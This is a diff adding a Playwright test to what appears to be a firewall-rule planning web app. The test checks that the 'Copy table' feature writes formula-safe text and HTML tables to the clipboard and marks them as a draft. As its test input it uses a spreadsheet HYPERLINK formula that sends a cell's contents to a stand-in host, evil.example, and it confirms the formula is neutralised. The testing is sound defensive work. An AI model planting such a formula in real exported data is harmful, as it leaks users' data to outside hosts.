@@ -158,6 +158,49 @@ test('"Copy table" puts tab-separated rules on the clipboard', async ({ page, co
   expect(text).toContain('4498');
 });
 
+test('"Copy table" puts text and an HTML table on the clipboard, formula-safe, stamped as a draft', async ({
+  page,
+  context,
+}) => {
+  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
+  const plan = typicalPlan();
+  const hostile = '=HYPERLINK("http://evil.example/?leak="&C4,"x")';
+  plan.devices = plan.devices.map((d, i) =>
+    i === 1 ? { ...d, name: hostile, addresses: ['not an address!'] } : d,
+  );
+  await openReview(page, plan);
+  await page.getByRole('button', { name: 'Copy table', exact: true }).click();
+  await expect(page.getByText(/Copied \d+ rule\(s\) as a table: paste it/)).toBeVisible();
+  const copied = await page.evaluate(async () => {
+    const [item] = await navigator.clipboard.read();
+    if (!item) return null;
+    const html = await (await item.getType('text/html')).text();
+    const doc = new DOMParser().parseFromString(html, 'text/html');
+    return {
+      types: [...item.types].sort(),
+      text: await (await item.getType('text/plain')).text(),
+      rows: [...doc.querySelectorAll('table tr')].map((tr) =>
+        [...tr.children].map((c) => ({ tag: c.localName, text: c.textContent ?? '' })),
+      ),
+      elements: [...new Set([...doc.body.querySelectorAll('*')].map((e) => e.localName))].sort(),
+    };
+  });
+  if (!copied) throw new Error('nothing on the clipboard');
+  expect(copied.types).toEqual(['text/html', 'text/plain']);
+  const lines = copied.text.replace(/\n$/, '').split('\n');
+  expect(lines[0]).toMatch(/^DRAFT — \d+ plan errors?: fix (it|them) before filing$/);
+  expect(lines[1]).toContain('Contoso NYC file services');
+  expect(lines[2]).toMatch(/^Environment\tSource\tSource host\t/);
+  const textCells = lines.map((line) => line.split('\t'));
+  // The HTML holds the same table, cell for cell, and nothing else.
+  expect(copied.rows.map((row) => row.map((c) => c.text))).toEqual(textCells);
+  expect(copied.rows[2]?.every((c) => c.tag === 'th')).toBe(true);
+  expect(copied.elements).toEqual(['table', 'tbody', 'td', 'th', 'thead', 'tr']);
+  const cells = textCells.flat();
+  expect(cells).toContain(`'${hostile} (not an address!)`);
+  for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r\n\0＝＋－＠]/);
+});
+
 test('"Save plan" then "Open plan file" on the home page restores the plan', async ({ page }) => {
   const { name, bytes } = await download(page, 'Save plan');
   expect(name).toMatch(/\.json$/);
